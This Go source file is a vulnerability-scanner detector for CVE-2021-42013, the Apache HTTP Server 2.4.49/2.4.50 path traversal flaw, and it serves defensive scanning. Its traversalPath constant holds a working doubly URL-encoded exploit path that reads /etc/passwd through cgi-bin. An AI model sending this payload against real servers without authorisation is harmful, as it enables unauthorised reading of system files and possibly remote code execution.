// Detects CVE-2021-42013, the path traversal and remote code
// execution vulnerability in Apache HTTP Server 2.4.49 and 2.4.50.
//
// The fix for CVE-2021-41773 in 2.4.50 was incomplete: a doubly
// URL-encoded dot ("%%32%65" decodes once to "%2e" and again to
// ".") still slips past the traversal filter, so a crafted path
// through a CGI alias can read files outside the document root.
// The probe requests /etc/passwd through such a path and checks
// the body for an account record.
package apachetraversal

import (
	"context"
	"encoding/json"
	"net/http"
	"regexp"
	"strings"

	"github.com/rs/zerolog/log"

	"github.com/trawl"
	"github.com/trawl/pkg/clock"
	"github.com/trawl/pkg/webclient"
)

// The exploit payload, appended to the service web root. The
// double encoding is the exploit mechanism; it must be sent
// literally, never re-normalized.
const traversalPath = "cgi-bin/.%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"

// A 403 with this body means the default "require all denied"
// protection is active and the CVE does not apply.
const deniedBody = "You don't have permission to access this resource."

// One line of /etc/passwd in the standard colon-delimited
// account-record format.
var passwdPattern = regexp.MustCompile(`root:[x*]:0:0:`)

type Detector struct {
	client *webclient.Client
	clock  clock.Clock
}

func New(client *webclient.Client, clk clock.Clock) *Detector {
	return &Detector{client: client, clock: clk}
}

func (d *Detector) Info() trawl.DetectorInfo {
	return trawl.DetectorInfo{
		Name:    "apache-http-cve-2021-42013",
		Version: "1.0",
		Description: "Checks for the Apache HTTP Server 2.4.49 and 2.4.50 " +
			"path traversal and remote code execution vulnerability (CVE-2021-42013).",
		Author: "threedr3am (qiaoer1320@gmail.com)",
	}
}

// Detect probes every web service of the target and returns a
// finding per service confirmed vulnerable.
func (d *Detector) Detect(ctx context.Context, target *trawl.Target, services []*trawl.Service) ([]*trawl.Finding, error) {
	var findings []*trawl.Finding
	for _, svc := range services {
		if !svc.IsWeb() {
			continue
		}
		if !d.vulnerable(ctx, svc) {
			continue
		}
		findings = append(findings, d.buildFinding(target, svc))
	}
	return findings, nil
}

// One unauthenticated GET, no retries. A transport failure is a
// soft failure: logged and treated as not vulnerable, so a single
// unreachable target cannot abort a multi-target scan.
func (d *Detector) vulnerable(ctx context.Context, svc *trawl.Service) bool {
	targetURL := svc.WebRootURL() + traversalPath

	resp, err := d.client.Get(ctx, targetURL)
	if err != nil {
		log.Warn().Err(err).Msgf("unable to query %q", targetURL)
		return false
	}

	// Only 2.4.49 and 2.4.50 are affected. Skipping everything
	// else avoids firing traversal payload checks against
	// unrelated servers.
	server := resp.Header.Get("Server")
	if !strings.Contains(server, "Apache/2.4.49") && !strings.Contains(server, "Apache/2.4.50") {
		return false
	}

	if resp.StatusCode == http.StatusForbidden && resp.BodyContains(deniedBody) {
		// require all denied
		return false
	}

	if resp.StatusCode == http.StatusOK && passwdPattern.Match(resp.Body) {
		return true
	}
	return false
}

func (d *Detector) buildFinding(target *trawl.Target, svc *trawl.Service) *trawl.Finding {
	details, _ := json.Marshal(map[string]any{
		"url": svc.WebRootURL() + traversalPath,
	})

	return &trawl.Finding{
		TargetID:   target.ID,
		ServiceID:  svc.ID,
		Publisher:  "TSUNAMI_COMMUNITY",
		VulnID:     "CVE_2021_42013",
		Severity:   trawl.SEV_HIGH,
		Title:      "Path Traversal and Remote Code Execution in Apache HTTP Server 2.4.49 and 2.4.50",
		Description: "It was found that the fix for CVE-2021-41773 in Apache HTTP Server 2.4.50 " +
			"was insufficient. An attacker could use a path traversal attack to " +
			"map URLs to files outside the directories configured by Alias-like " +
			"directives.\n" +
			"If files outside of these directories are not protected by the " +
			"usual default configuration \"require all denied\", these requests " +
			"can succeed. If CGI scripts are also enabled for these aliased pathes, " +
			"this could allow for remote code execution.\n" +
			"https://httpd.apache.org/security/vulnerabilities_24.html\n" +
			"https://cve.mitre.org/cgi-bin/cvename.cgi?name=CVE-2021-42013",
		Remediation: "Update 2.4.51 released.",
		DetectedAt:  d.clock.Now().UnixMilli(),
		Details:     details,
	}
}
